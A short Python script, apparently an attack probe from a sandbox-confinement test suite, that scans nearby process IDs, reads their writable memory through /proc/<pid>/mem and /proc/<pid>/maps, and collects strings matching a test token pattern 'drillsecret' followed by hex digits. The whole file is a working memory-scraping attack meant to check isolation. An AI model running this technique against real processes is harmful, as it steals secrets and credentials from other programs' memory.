# Searches the processes near its own for the checker's memory.
# proof: secret
# control: none, because there is no checker unconfined
import os
import re


def attack(arg):
    found = set()
    for pid in list(range(1, 30)) + list(range(max(30, os.getpid() - 200), os.getpid() + 200)):
        try:
            memory = open(f"/proc/{pid}/mem", "rb", 0)
            maps = open(f"/proc/{pid}/maps").readlines()
        except OSError:
            continue
        for line in maps:
            start, end = (int(x, 16) for x in line.split()[0].split("-"))
            if "rw" in line:
                try:
                    memory.seek(start)
                    found.update(re.findall(rb"drillsecret[0-9a-f]{16}", memory.read(end - start)))
                except OSError:
                    continue
    return sorted(found)
